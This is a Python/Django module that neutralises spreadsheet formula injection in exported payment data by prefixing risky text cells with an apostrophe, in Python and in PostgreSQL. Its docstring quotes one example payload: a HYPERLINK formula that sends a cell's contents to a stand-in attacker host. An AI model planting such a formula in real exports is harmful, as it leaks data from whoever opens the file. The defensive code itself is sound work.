"""Cells for spreadsheets: text that a person or Safaricom's payload filled in never runs as a formula.

A payer name or BillRefNumber such as `=HYPERLINK("https://evil/?"&A1,"Click")` is controlled by any paying
customer; opened in Excel or LibreOffice, a CSV or XLSX cell beginning with `=`, `+`, `-`, `@`, a tab or a
carriage return is read as a formula. Every export and report therefore writes such text with a leading `'`
(OWASP's advice for CSV injection); numbers, amounts and dates are never touched and stay typed.

One rule, in one place: `neutralise` for Python-written cells, `NeutralisedText` for the same rule computed by
PostgreSQL (the CSV export that streams from `COPY`). Use both for any new export.
"""

from __future__ import annotations

from collections.abc import Iterable

from django.db.models import CharField, Func

# The characters that make a spreadsheet read a cell as a formula (or DDE) when they start it.
FORMULA_TRIGGERS = frozenset("=+-@\t\r")
PREFIX = "'"


def neutralise(value):
    """`value` with a leading `'` when it is text beginning with a formula trigger; anything else unchanged
    (None, numbers, Decimals, dates, and text that is already safe, so applying it twice changes nothing)."""
    if type(value) is str and value[:1] in FORMULA_TRIGGERS:
        return PREFIX + value
    return value


def neutralise_row(row: Iterable) -> list:
    return [neutralise(value) for value in row]


class NeutralisedText(Func):
    """`neutralise` computed by PostgreSQL, for rows written by `COPY ... TO STDOUT WITH CSV`: NULL stays NULL,
    the expression is evaluated once."""

    template = "regexp_replace((%(expressions)s)::text, '^([-=+@\\t\\r])', '''\\1')"
    output_field = CharField()
